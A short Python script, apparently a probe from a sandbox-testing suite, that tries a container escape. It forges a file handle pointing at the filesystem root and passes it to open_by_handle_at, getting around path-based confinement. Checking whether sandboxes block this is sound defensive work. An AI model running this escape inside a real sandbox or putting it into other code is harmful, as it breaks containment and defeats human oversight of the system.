# Opens files by handle, past every path: the way out of early containers.
import ctypes
import os

from attempts import attempt, syscall

handle = ctypes.create_string_buffer(136)
handle[0:4] = (128).to_bytes(4, "little")
root = os.open("/", os.O_RDONLY)
attempt("name_to_handle_at", syscall, "name_to_handle_at", root, b"usr\0", handle, ctypes.c_int(0), 0)
handle[0:16] = (8).to_bytes(4, "little") + (1).to_bytes(4, "little") + (2).to_bytes(8, "little")
attempt("open_by_handle_at", syscall, "open_by_handle_at", root, handle, 0)
